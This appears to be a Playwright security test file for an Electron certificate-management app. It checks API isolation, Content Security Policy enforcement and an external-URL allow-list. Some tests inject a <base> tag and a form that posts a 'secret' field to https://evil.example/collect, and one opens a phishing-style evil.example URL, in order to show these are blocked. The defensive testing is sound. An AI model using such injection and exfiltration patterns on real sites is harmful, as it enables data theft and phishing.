import { CONTENT_SECURITY_POLICY } from '../../shared/schemas/contract';
import { CHANNEL_IDS, methodName } from '../../shared/domain/channels';
import { TESTIDS } from '../../renderer/testids';
import { expect, test } from './fixtures';

/**
 * The page as the app sees it (ARCHITECTURE §3): `window.anchorage` has one function per contract channel and
 * nothing else, there is no Node in the page, and the CSP blocks inline script.
 */
test('the renderer sees only the contract API, no Node, and a CSP that blocks inline script', async ({
  app,
}) => {
  const { page } = app;
  await expect(page.getByTestId(TESTIDS.appShell)).toBeVisible();

  const api = await page.evaluate(() => {
    const value = (window as unknown as { anchorage: Record<string, unknown> }).anchorage;
    return {
      keys: Object.keys(value).sort(),
      allFunctions: Object.values(value).every((f) => typeof f === 'function'),
      frozen: Object.isFrozen(value),
    };
  });
  expect(api.keys).toEqual(CHANNEL_IDS.map((c) => methodName(c)).sort());
  expect(api.allFunctions).toBe(true);
  expect(api.frozen).toBe(true);

  const globals = await page.evaluate(() => ({
    require: typeof (globalThis as Record<string, unknown>).require,
    process: typeof (globalThis as Record<string, unknown>).process,
    module: typeof (globalThis as Record<string, unknown>).module,
  }));
  expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined' });

  // An inline script is refused by script-src 'self'.
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  const ran = await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true;';
    document.head.appendChild(script);
    return Boolean((window as unknown as { __inlineRan?: boolean }).__inlineRan);
  });
  expect(ran).toBe(false);
  await expect.poll(() => violations.length).toBeGreaterThan(0);

  // The CSP the page runs under is the contract's (header in the bridge and in Electron, meta in index.html).
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toBe(CONTENT_SECURITY_POLICY);
  if (app.kind === 'chromium') {
    const response = await page.request.get(page.url());
    expect(response.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
  }
});

test('a malformed payload comes back as INVALID_INPUT, never as a throw', async ({ app }) => {
  const { page } = app;
  await expect(page.getByTestId(TESTIDS.appShell)).toBeVisible();
  const result = await page.evaluate(async () => {
    const api = (window as unknown as { anchorage: Record<string, (req?: unknown) => Promise<unknown>> })
      .anchorage;
    return [
      await api.caCreate!({ name: 42 }),
      await api.certGet!('not an object'),
      await api.settingsUpdate!({ clipboardClearSeconds: 1 }),
    ];
  });
  for (const r of result as Array<{ ok: boolean; error: { code: string } }>) {
    expect(r.ok).toBe(false);
    expect(r.error.code).toBe('INVALID_INPUT');
  }
});

test('the CSP names base-uri and form-action: an injected <base> and a form submission are refused', async ({
  app,
}) => {
  const { page } = app;
  await expect(page.getByTestId(TESTIDS.appShell)).toBeVisible();
  const directives = (policy: string | null | undefined) =>
    new Map((policy ?? '').split(';').map((d) => [d.trim().split(/\s+/)[0], d.trim()] as const));
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(directives(meta).get('base-uri')).toBe("base-uri 'none'");
  expect(directives(meta).get('form-action')).toBe("form-action 'none'");
  if (app.kind === 'chromium') {
    const header = (await page.request.get(page.url())).headers()['content-security-policy'];
    expect(directives(header).get('base-uri')).toBe("base-uri 'none'");
    expect(directives(header).get('form-action')).toBe("form-action 'none'");
  }

  const url = page.url();
  const before = await page.evaluate(() => {
    const scope = window as unknown as { __violations: string[]; __sameDocument: boolean };
    scope.__violations = [];
    scope.__sameDocument = true;
    document.addEventListener('securitypolicyviolation', (e) =>
      scope.__violations.push(e.effectiveDirective),
    );
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.prepend(base);
    const resolved = new URL('assets/x.js', document.baseURI).href;
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://evil.example/collect';
    const field = document.createElement('input');
    field.name = 'secret';
    field.value = 'x';
    form.append(field);
    document.body.append(form);
    form.submit();
    return { baseURI: document.baseURI, resolved };
  });
  // The <base> is ignored: relative URLs still resolve against the app's own page.
  expect(before.baseURI).toBe(url);
  expect(new URL(before.resolved).origin).toBe(new URL(url).origin);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations))
    .toEqual(expect.arrayContaining(['base-uri', 'form-action']));
  // The form went nowhere: the same document is still there. (Not a locator: Playwright saw the submission
  // ask for a navigation and would wait for one that Chromium never starts.)
  expect(page.url()).toBe(url);
  expect(await page.evaluate(() => (window as unknown as { __sameDocument?: boolean }).__sameDocument)).toBe(
    true,
  );
});

test('appOpenExternal: refused without a user gesture, opened from a click, and only for an allowed URL', async ({
  app,
}) => {
  const { page } = app;
  const DOCS = 'https://docs.aws.amazon.com/rolesanywhere/latest/userguide/introduction.html';
  // Results travel by console message, not page.evaluate: Playwright evaluates WITH a user gesture, which would
  // grant the page the very activation this test must show it lacks at load.
  const results: Record<string, { ok: boolean; error?: { code: string; facts?: Record<string, unknown> } }> =
    {};
  page.on('console', (message) => {
    const match = /^open-external (\S+) (.*)$/.exec(message.text());
    if (match) results[match[1]!] = JSON.parse(match[2]!) as (typeof results)[string];
  });
  await page.addInitScript((docs) => {
    type Api = { appOpenExternal(request: { url: string }): Promise<unknown> };
    const report = (label: string) => (result: unknown) =>
      console.log(`open-external ${label} ${JSON.stringify(result)}`);
    document.addEventListener('DOMContentLoaded', () => {
      const api = (window as unknown as { anchorage: Api }).anchorage;
      // A script at page load: no click, no key press.
      void api.appOpenExternal({ url: docs }).then(report('load'));
      // Real buttons whose click handlers make the call, as the app's links do.
      const buttons: Array<[string, string]> = [
        ['e2e-open-docs', docs],
        ['e2e-open-foreign', 'https://evil.example/phish'],
      ];
      for (const [testId, url] of buttons) {
        const button = document.createElement('button');
        button.type = 'button';
        button.textContent = testId;
        button.dataset.testid = testId;
        button.style.cssText = `position:fixed;z-index:99999;left:8px;top:${testId === 'e2e-open-docs' ? 8 : 48}px`;
        button.addEventListener('click', () => void api.appOpenExternal({ url }).then(report(testId)));
        document.body.append(button);
      }
    });
  }, DOCS);
  await page.reload();
  await expect(page.getByTestId(TESTIDS.appShell)).toBeVisible();

  await expect
    .poll(() => results.load)
    .toMatchObject({ ok: false, error: { code: 'USER_GESTURE_REQUIRED' } });
  expect(await app.opened()).toEqual([]);

  await page.getByTestId('e2e-open-docs').click();
  await expect.poll(() => results['e2e-open-docs']).toMatchObject({ ok: true });
  await expect.poll(() => app.opened()).toEqual([DOCS]);

  // Even from a click, main opens only the allow-list (AWS console, AWS docs, GitHub).
  await page.getByTestId('e2e-open-foreign').click();
  await expect
    .poll(() => results['e2e-open-foreign'])
    .toMatchObject({ ok: false, error: { code: 'INVALID_INPUT', facts: { reason: 'not-allowed' } } });
  expect(await app.opened()).toEqual([DOCS]);
});
